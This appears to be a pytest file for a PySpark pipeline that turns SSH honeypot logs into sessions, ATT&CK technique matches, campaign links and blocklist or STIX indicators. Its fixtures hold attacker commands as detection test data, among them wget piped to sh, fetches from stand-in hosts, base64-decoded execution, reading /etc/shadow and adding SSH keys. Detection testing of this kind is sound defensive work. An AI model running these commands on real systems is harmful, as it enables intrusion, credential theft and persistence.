"""Sessions, detection, campaigns, indicators, retention and streams on small logs."""

import datetime as dt
import json
import random

import pytest
from pyspark.sql import functions as F

from siltstream.operators import campaigns as C
from siltstream.operators import detect as D
from siltstream.operators import enrich as E
from siltstream.operators import evaluate as V
from siltstream.operators import indicators as I
from siltstream.operators import rules as R
from siltstream.operators import sessions as S
from siltstream.operators.graph import connected_components
from siltstream.sources import sinks
from siltstream.sources.log import read_alerts, read_events, read_exit_list
from siltstream.streaming.jobs import Store, ingest_stream
from siltstream.operators import reports as P

BASE = {"src_ip": "203.0.113.7"}


def line(session, second, kind, **more):
    return json.dumps({**BASE, "session": session, "eventid": f"cowrie.{kind}", "timestamp": f"2026-10-05T07:11:{second:02d}.000000Z", **more})


A, B = "051b29d11c6c", "aaaaaaaaaaaa"
LINES = [
    line(A, 1, "session.connect"), line(A, 2, "client.version", version="SSH-2.0-x"), line(A, 3, "login.failed", username="root", password="123456"),
    line(A, 4, "login.success", username="root", password="apple"), line(A, 5, "command.input", input="whoami"), line(A, 6, "command.input", input="cat /etc/passwd"),
    line(A, 7, "session.file_download", url="http://evil.example/sh", shasum="ab" * 32), line(A, 8, "session.file_download", shasum="cd" * 32),
    line(A, 9, "session.closed", duration_ms=72599.5), line(B, 1, "session.connect"), line(B, 2, "login.failed", username="admin", password="admin"),
    line(B, 3, "direct-tcpip.request", dst_ip="198.51.100.1", dst_port="25", orig_ip="x", orig_port=70000), line(B, 4, "session.closed", duration_ms=-5),
]
HOSTILE = ["", "   ", "{broken", "[1]", '"x"', json.dumps({"session": 5, "eventid": "cowrie.session.connect"}), line("typed", 1, "login.failed", username=5, password=["x"]), "{" + " " * 2_000_001 + "}"]


@pytest.fixture(scope="module")
def log(tmp_path_factory):
    path = tmp_path_factory.mktemp("log")
    (path / "a.json").write_text("\n".join(LINES + HOSTILE) + "\n")
    return path


def test_ingest(spark, log):
    events, rejects = read_events(spark, str(log))
    assert sorted(r.reason for r in rejects.collect()) == ["no object"] * 3 + ["no session", "too long"]
    t = S.store_events(events)
    s = {r.id: r for r in t["sessions"].collect()}
    assert set(s) == {A, B, "typed"}
    assert (s[A].src_ip, s[A].client_version, s[A].duration_ms, s[A].internal) == ("203.0.113.7", "SSH-2.0-x", 72599, False)
    assert s[B].duration_ms is None
    assert {n: t[n].count() for n in S.CAPS} == {"logins": 4, "commands": 2, "downloads": 1, "uploads": 0, "tunnels": 1}
    row = t["tunnels"].first()
    assert (row.dst_port, row.orig_port) == (25, 0)
    typed = t["logins"].where("session_id = 'typed'").first()
    assert typed.username is None and typed.password is None
    again = {n: S.merge_children(t[n], t[n], n).count() for n in S.CAPS}
    assert again == {n: t[n].count() for n in S.CAPS}


def test_stream_equals_batch(spark, log, tmp_path):
    source = tmp_path / "in"
    source.mkdir()
    store = Store(spark, f"file://{tmp_path}/store")
    for i, part in enumerate((LINES[::2], LINES[1::2], LINES)):
        (source / f"{i}.json").write_text("\n".join(part) + "\n")
        ingest_stream(spark, str(source), store, f"file://{tmp_path}/checkpoint").awaitTermination()
    live, batch = store.read(), S.store_events(read_events(spark, str(log))[0].where("session <> 'typed'"))
    for n in S.CAPS:
        names = ["session_id", "ts", *S.KEYS[n]]
        assert sorted(map(tuple, live[n].select(names).collect())) == sorted(map(tuple, batch[n].select(names).collect()))
    names = ["id", "src_ip", "start_time", "end_time", "duration_ms"]
    assert sorted(map(tuple, live["sessions"].select(names).collect())) == sorted(map(tuple, batch["sessions"].select(names).collect()))


def test_stream_with_new_checkpoint(spark, tmp_path):
    """A second query's batches count from 0 again and are added all the same; a batch that is repeated is not."""
    store = Store(spark, f"file://{tmp_path}/store")
    line = '{"session": "%s", "src_ip": "203.0.113.7", "eventid": "cowrie.session.connect", "timestamp": "2026-10-05T07:11:23.959011Z"}\n'
    for name in ("aaa", "bbb"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "0.json").write_text(line % name)
        ingest_stream(spark, str(tmp_path / name), store, f"file://{tmp_path}/checkpoint-{name}").awaitTermination()
    assert sorted(r.id for r in store.read()["sessions"].collect()) == ["aaa", "bbb"]
    version = store.version()
    store.merge(store.read(), "again")
    store.merge(store.read(), "again")
    assert store.version() == version + 1 and store.read()["sessions"].count() == 2


CASES = {
    'bash -c "wget http://x/a | sh"': "T1105", "sh -c 'cat /proc/cpuinfo'": "T1082", "sh -c \"bash -c 'uname -a'\"": "T1082", 'echo "x; uname -a': "T1082",
    "\\wget http://x/a": "T1105", "( uname -a )": "T1082", "{ uname -a; }": "T1082", "if true; then uname -a; fi": "T1082", "dmesg | grep -i virtual": "T1497",
    "cat /proc/1/cgroup": "T1497", "ls /.dockerenv": "T1497", "ssh -V": "T1518", "cat /etc/shadow": "T1003.008", "crontab -l": "T1053.003",
    "echo x >> ~/.ssh/authorized_keys": "T1098.004", "history -c": "T1070.003", "echo aGk= | base64 -d | sh": "T1140",
}


def test_mapping(spark):
    rows = spark.createDataFrame([(c,) for c in CASES], "command string")
    found = {r.command: {m.technique for m in r.matches} for r in D.map_distinct_commands(rows).collect()}
    assert all(t in found[c] for c, t in CASES.items()), {c: found[c] for c, t in CASES.items() if t not in found[c]}
    assert "T1021.004" not in found["ssh -V"]
    cases = spark.createDataFrame([("uname -a", ["T1082"]), ("echo hi", []), ("whoami", ["T1082"])], "command string, expect array<string>")
    e = V.evaluate(V.scored_cases(cases)).first()
    assert (e.tp, e.fp, e.fn) == (1, 1, 1) and e.exact == pytest.approx(2 / 3)
    assert len(R.RULES) == 74 and R.rule_problems(R.rule_table(spark), R.catalog(spark)).count() == 0
    broken = R.rule_table(spark, [("a", "T0", "sure", "segment", "x"), ("a", "T1082", "low", "segment", "")])
    assert {r.problem for r in R.rule_problems(broken, R.catalog(spark)).collect()} == {"unknown technique", "unknown confidence", "the id is repeated", "a field is missing"}


def test_logins(spark):
    rows = [("s2", i, "x", False) for i in range(2)] + [("s3", i, "x", False) for i in range(3)] + [("s10", i, "x", False) for i in range(10)] + [("ok", 1, "ROOT", True), ("ok", 2, "z", True), ("own", 1, "deploy", True)]
    df = spark.createDataFrame(rows, "session_id string, ord long, username string, success boolean")
    out = {(r.session_id, r.technique, r.confidence) for r in D.map_logins(df).collect()}
    assert out == {("s3", "T1110.001", "medium"), ("s10", "T1110.001", "high"), ("ok", "T1078.001", "medium"), ("own", "T1078", "medium")}


def test_campaigns(spark):
    """A strong key links any number; weak ones only small crowds; chains become one component."""
    order = lambda ids: spark.createDataFrame([(i, False, int(i[1:])) for i in ids], "id string, late boolean, n int").select("id", F.struct("late", "n", "id").alias("label"))
    strong = spark.createDataFrame([(f"s{i}", "file:x", 5.0) for i in range(300)], "session_id string, key string, weight double")
    found = connected_components(C.link_edges(strong, order([f"s{i}" for i in range(300)])))
    assert {r.root for r in found.collect()} == {"s0"} and found.count() == 300
    for n, linked in ((30, 0), (10, 10)):
        weak = spark.createDataFrame([(f"s{i}", k, w) for i in range(n) for k, w in (("hassh:h", 2.0), ("host:h", 3.0))], "session_id string, key string, weight double")
        assert connected_components(C.link_edges(weak, order([f"s{i}" for i in range(n)]))).count() == linked
    chain = spark.createDataFrame([(i, i + 1) for i in range(200)] + [(1000, 1001), (7, 7)], "a long, b long")
    roots = {r.node: r.root for r in connected_components(chain).collect()}
    assert {roots[i] for i in range(201)} == {0} and roots[1001] == 1000 and len(roots) == 203
    assert connected_components(chain.limit(0)).count() == 0


NOW = dt.datetime(2026, 10, 9, 12)


def test_indicators(spark):
    when = NOW - dt.timedelta(days=1)
    rows = [("s1", "11.22.33.44", 12, 0, 0, 0), ("s2", "11.22.33.45", 0, 1, 0, 0), ("s3", "11.22.33.46", 0, 1, 2, 0), ("s4", "11.22.33.47", 0, 1, 1, 1), ("s5", "11.22.33.48", 2, 0, 0, 0), ("s6", "198.51.100.5", 0, 1, 1, 0), ("s7", "::ffff:11.22.33.44", 1, 0, 0, 0)]
    flags = spark.createDataFrame([(i, ip, when, False, f, a, c, d, 0, 0) for i, ip, f, a, c, d in rows], "id string, src_ip string, start_time timestamp_ntz, internal boolean, failed long, accepted long, n_commands long, n_downloads long, n_uploads long, n_tunnels long")
    none = spark.createDataFrame([], "session_id string, url string, technique string")
    geo = spark.createDataFrame([("11.22.33.44", "AU", 64500, "Org")], "ip string, country_code string, asn int, as_org string")
    intel = spark.createDataFrame([("11.22.33.44", "abuseipdb", 88, None), ("11.22.33.44", "tor", None, True)], "ip string, provider string, score int, flagged boolean")
    now = F.lit(NOW).cast("timestamp_ntz")
    found, rejected = I.address_indicators(flags, none, none, geo, intel, now, I.Filters(min_level="contact", exclude=("11.22.33.48/32",)))
    out = {r.value: (r.level, r.confidence, r.sessions, r.country, r.tor) for r in found.collect()}
    assert out == {"11.22.33.44": ("guessing", 55, 2, "AU", True), "11.22.33.45": ("access", 55, 1, None, None), "11.22.33.46": ("hands-on", 70, 1, None, None), "11.22.33.47": ("action", 85, 1, None, None)}
    assert sorted(r.reason for r in rejected.collect()) == ["excluded", "non_public"]
    junk = flags.unionByName(flags.where("id = 's1'").withColumns({"id": F.lit("s8"), "src_ip": F.lit("999.1.1.1")}))
    _, rejected = I.address_indicators(junk, none, none, geo, intel, now, I.Filters(min_level="hands-on"))
    assert sorted(r.reason for r in rejected.collect()) == ["below_level"] * 3 + ["invalid", "non_public"]
    assert [r.value for r in sinks.blocklist(found).collect()][0] == "11.22.33.44"
    fire = [r.value for r in sinks.nftables(found, now, 30).collect()]
    assert fire[0].startswith("add table") and "11.22.33.44 timeout 2505600s" in " ".join(fire)
    stix = [json.loads(r.value) for r in sinks.stix_objects(found, now, 30).collect()]
    assert stix[0]["type"] == "identity" and all(x["id"].startswith("indicator--") for x in stix[1:])
    assert stix[1:] == [json.loads(r.value) for r in sinks.stix_objects(found, now, 30).collect()][1:]
    for bad in ({"days": 0}, {"min_level": "x"}, {"kinds": ("dns",)}, {"min_confidence": 101}):
        with pytest.raises(ValueError):
            I.Filters(**bad)


def test_reports_of_providers(spark):
    payload = json.dumps({"data": {"attributes": {"last_analysis_stats": {"malicious": 7, "suspicious": 1, "harmless": 60}, "popular_threat_classification": {"suggested_threat_label": "trojan.mirai"}}}})
    df = spark.createDataFrame([("a", payload), ("b", "{broken"), ("c", "{}")], "sha256 string, payload string")
    out = {r.sha256: (r.found, r.malicious, r.engines, r.label) for r in E.flatten_file_report(df).collect()}
    assert out == {"a": (True, 7, 68, "trojan.mirai"), "b": (False, None, None, None), "c": (False, None, None, None)}


def test_lists(spark, tmp_path):
    (tmp_path / "exits").write_text("# list\n\n" + "\n".join(f"1.1.1.{i}" for i in range(12)) + "\nnonsense\n")
    assert read_exit_list(spark, str(tmp_path / "exits")).count() == 12
    (tmp_path / "few").write_text("1.1.1.1\n")
    with pytest.raises(ValueError):
        read_exit_list(spark, str(tmp_path / "few"))
    alert = lambda i: json.dumps({"timestamp": str(i), "rule": {"id": str(i), "level": 5, "description": "d", "mitre": {"id": ["T1"]}}, "data": {"src_ip": "1.2.3.4"}})
    (tmp_path / "alerts").write_text("\n".join([alert(100501), "junk", alert(5), alert(100513)]))
    out = read_alerts(spark, str(tmp_path / "alerts"), 5).collect()
    assert [r.rule for r in out] == [100513, 100501] and out[0].techniques == ["T1"]


def test_frequency_alerts_by_counting(spark):
    """Against a count over all pairs: equal seconds, spans across buckets, spans longer than a bucket, events without address or time."""
    rng = random.Random(3)
    start = dt.datetime(2024, 1, 1)
    rows = []
    for n in range(400):
        at = start + dt.timedelta(seconds=D.DAY * rng.randint(0, 3) + rng.randint(-40, 40), milliseconds=rng.randint(0, 999))
        rows.append((n, rng.choice(["a", "a", "a", "b", None]), None if n % 50 == 0 else at, rng.choice(["cowrie.login.failed", "cowrie.command.input"]), rng.choice(["id", "other", None])))
    events = spark.createDataFrame(rows, "ord long, src_ip string, ts timestamp_ntz, eventid string, input string")
    spans = [("short", "login.failed", 3, 5), ("minute", "discovery", 4, 60), ("days", "login.failed", 60, 2 * D.DAY)]
    got = D.frequency_alerts(events, spark.createDataFrame([("id",), ("id",)], "input string"), spans)
    second = {n: (at - dt.datetime(1970, 1, 1)) // dt.timedelta(seconds=1) for n, _, at, _, _ in rows if at}
    counted = lambda r, what: r[1] and r[2] and (r[3] == "cowrie.login.failed" if what == "login.failed" else r[3] == "cowrie.command.input" and r[4] == "id")
    want = set()
    for name, what, least, span in spans:
        own = [r for r in rows if counted(r, what)]
        for r in own:
            n = sum(x[1] == r[1] and second[r[0]] - span <= second[x[0]] <= second[r[0]] for x in own)
            if n >= least:
                want.add((r[1], r[0], name, n))
    assert {w[2] for w in want} == {"short", "minute", "days"}
    assert sorted(tuple(r) for r in got.select("src_ip", "ord", "alert", "n").collect()) == sorted(want)
    assert D.frequency_alerts(events.limit(0), spark.createDataFrame([], "input string")).count() == 0


def test_session_detail(spark):
    """More logins than are shown: totals count all; files have verdicts, commands their matches, in order of time."""
    at = lambda s: dt.datetime(2026, 10, 5, 7, 0, 0) + dt.timedelta(seconds=s)
    make = lambda data, schema: spark.createDataFrame(data, f"session_id string, ord long, ts timestamp, {schema}")
    tables = {
        "sessions": spark.createDataFrame([("a", "203.0.113.7", at(0)), ("b", None, None)], "id string, src_ip string, start_time timestamp"),
        "logins": make([("a", i, at(200 - i), "root", str(i), False) for i in range(130)] + [("b", 1, None, "x", "y", True)], "username string, password string, success boolean"),
        "commands": make([("a", 500, at(9), "id"), ("a", 501, at(8), "uname -a"), ("b", 502, at(8), "id")], "command string"),
        "downloads": make([("a", 600, at(1), "http://e.example/x", "AB" * 32), ("a", 601, None, "http://e.example/y", None)], "url string, sha256 string"),
        "uploads": make([], "filename string, sha256 string"), "tunnels": make([], "dst_ip string"),
    }
    fetches = spark.createDataFrame([("a", "http://e.example/z", "curl", at(3))], "session_id string, url string, tool string, ts timestamp")
    hit = lambda s, ord, rule: (s, ord, rule, "T1", "low", "e", "t")
    matches = spark.createDataFrame([hit("a", 500, "r2"), hit("a", 500, "r1"), hit("a", None, "login-guessing"), hit("b", 500, "r3")], "session_id string, ord long, rule string, technique string, confidence string, evidence string, tactics string")
    verdicts = spark.createDataFrame([("ab" * 32, "virustotal", True, 7, 70, "bad"), ("ab" * 32, "other", True, 1, 1, "x")], "sha256 string, provider string, found boolean, malicious int, engines int, label string")
    out = {n: d.collect() for n, d in P.session_detail(tables, fetches, matches, verdicts, "a").items()}
    assert {(r.kind, r.total, r.shown) for r in out["totals"]} == {("logins", 130, 100), ("commands", 2, 2), ("downloads", 2, 2), ("fetches", 1, 1)}
    assert [r.password for r in out["logins"]] == [str(i) for i in range(129, 29, -1)]
    assert [(r.command, [m.rule for m in r.matches or []]) for r in out["commands"]] == [("uname -a", []), ("id", ["r1", "r2"])]
    assert [(r.url[-1], r.known, r.malicious) for r in out["downloads"]] == [("y", None, None), ("x", True, 7)]
    assert [r.rule for r in out["matches"]] == ["login-guessing"] and [r.id for r in out["session"]] == ["a"] and out["uploads"] == []
    nothing = P.session_detail(tables, fetches, matches, verdicts, "none")
    assert all(d.count() == 0 for d in nothing.values())


def test_newest_sessions(spark):
    """Counts don't multiply, a missing start comes last, ties go by id."""
    at = dt.datetime(2026, 10, 5)
    tables = {
        "sessions": spark.createDataFrame([("a", "11.0.0.1", at, True), ("c", None, at, False), ("b", "11.0.0.2", None, False), ("d", "11.0.0.1", at + dt.timedelta(1), False)], "id string, src_ip string, start_time timestamp, internal boolean"),
        "logins": spark.createDataFrame([("a",)] * 3 + [("d",)] * 2, "session_id string"), "commands": spark.createDataFrame([("a",)] * 4, "session_id string"),
    }
    geo = spark.createDataFrame([("11.0.0.1", "AU")], "ip string, country_code string")
    intel = spark.createDataFrame([("11.0.0.1", "abuseipdb", 5, None), ("11.0.0.1", "tor", None, True)], "ip string, provider string, score int, flagged boolean")
    out = [tuple(r) for r in P.newest_sessions(tables, geo, intel, 3).drop("src_ip", "start_time").collect()]
    assert out == [("d", 2, 0, "AU", 5, True), ("a", 3, 4, "AU", 5, True), ("c", 0, 0, None, None, None)]
    assert [r.id for r in P.newest_sessions(tables, geo, intel, 9).collect()] == ["d", "a", "c", "b"]


def test_linked_sessions(spark, monkeypatch):
    """Components over strong keys first are those over all links, and the graph of strong keys has no node for each session."""
    r = random.Random(3)
    keys = [(f"file:{i}", 5.0) for i in range(14)] + [(f"login:{i}", 1.5 if i % 2 else 4.0) for i in range(40)] + [("login:all", 1.5)]
    own = {(f"s{i:03}", *k) for i in range(150) for k in r.sample(keys, r.randint(0, 3))} | {(f"s{i:03}", "login:all", 1.5) for i in range(150)}
    df = spark.createDataFrame(sorted(own), "session_id string, key string, weight double")
    order = spark.createDataFrame([(f"s{i:03}", i) for i in range(150)], "id string, label int")
    groups = lambda found: {frozenset(x.n) for x in found.groupBy("root").agg(F.collect_list("node").alias("n")).collect()}
    assert groups(C.linked_sessions(df)) == groups(connected_components(C.link_edges(df, order)))
    strong = df.where("weight = 5")
    assert len(groups(C.linked_sessions(strong))) > 0 and groups(C.linked_sessions(strong)) == groups(connected_components(C.link_edges(strong, order)))
    sizes, plain = [], connected_components

    def counted(edges, *names):
        sizes.append(edges.count())
        return plain(edges, *names)

    monkeypatch.setattr(C, "connected_components", counted)
    two = spark.createDataFrame([(f"s{i}", k, 5.0) for i in range(300) for k in ("file:a", "file:b")], "session_id string, key string, weight double")
    assert C.linked_sessions(two).groupBy("root").count().collect()[0]["count"] == 300 and sizes == [1]  # of sessions, not keys, there are 299 links
